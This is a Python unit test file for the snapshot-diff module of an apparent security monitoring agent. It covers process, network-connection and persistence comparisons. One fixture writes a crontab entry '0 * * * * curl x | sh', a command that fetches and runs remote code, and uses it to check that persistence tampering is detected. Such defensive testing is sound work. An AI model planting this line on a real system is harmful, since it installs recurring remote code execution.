"""Unit tests for core/differ.py -- identity-keyed snapshot comparison."""

import logging

from conftest import make_connection, make_process, snapshot

from soc_agent.core.differ import diff, index_by_identity
from soc_agent.schemas.snapshots import PersistencePointItem, SnapshotCategory

PROCESS = SnapshotCategory.PROCESS

# ---------------------------------------------------------------------------
# TestDiff
# ---------------------------------------------------------------------------


class TestDiff:
    def test_baseline_reports_everything_as_added(self):
        current = snapshot(PROCESS, make_process(1), make_process(2))
        delta = diff(None, current)
        assert {p.pid for p in delta.added} == {1, 2}
        assert delta.removed == () and delta.changed == ()

    def test_identical_snapshots_yield_empty_diff(self):
        items = (make_process(1), make_process(2, name='sshd', path='/usr/sbin/sshd'))
        delta = diff(snapshot(PROCESS, *items), snapshot(PROCESS, *items))
        assert delta.is_empty

    def test_resource_usage_alone_is_not_a_change(self):
        before = snapshot(PROCESS, make_process(1, cpu_percent=1.0))
        after = snapshot(PROCESS, make_process(1, cpu_percent=55.0))
        assert diff(before, after).is_empty

    def test_added_removed_changed_are_disjoint_and_complete(self):
        previous = snapshot(PROCESS, make_process(1), make_process(2), make_process(3))
        current = snapshot(
            PROCESS,
            make_process(2),                                  # unchanged
            make_process(3, name='python3', path='/usr/bin/python3'),  # pid reused
            make_process(4),                                  # new
        )
        delta = diff(previous, current)

        added = {p.pid for p in delta.added}
        removed = {p.pid for p in delta.removed}
        changed = {new.pid for _, new in delta.changed}
        assert added == {4}
        assert removed == {1}
        assert changed == {3}
        assert not (added & removed) and not (added & changed) and not (removed & changed)

        old, new = delta.changed[0]
        assert old.name == 'bash' and new.name == 'python3'

    def test_connections_keyed_by_tuple(self):
        a = make_connection(remote_port=443)
        b = make_connection(remote_port=8443)
        delta = diff(snapshot(SnapshotCategory.NETWORK, a), snapshot(SnapshotCategory.NETWORK, a, b))
        assert delta.added == (b,)

    def test_persistence_content_change_detected(self):
        before = PersistencePointItem(key_path='/etc/crontab', content='0 * * * * backup')
        after = PersistencePointItem(key_path='/etc/crontab', content='0 * * * * curl x | sh')
        delta = diff(snapshot(SnapshotCategory.PERSISTENCE, before),
                     snapshot(SnapshotCategory.PERSISTENCE, after))
        assert delta.changed == ((before, after),)


# ---------------------------------------------------------------------------
# TestIndexByIdentity
# ---------------------------------------------------------------------------


class TestIndexByIdentity:
    def test_duplicate_key_keeps_later_item_and_logs(self, caplog):
        first = make_process(7, name='first')
        second = make_process(7, name='second')
        with caplog.at_level(logging.WARNING, logger='soc_agent.core.differ'):
            index = index_by_identity(snapshot(PROCESS, first, second))
        assert index[7] is second
        assert 'Duplicate identity key' in caplog.text

    def test_none_snapshot_is_empty_index(self):
        assert index_by_identity(None) == {}
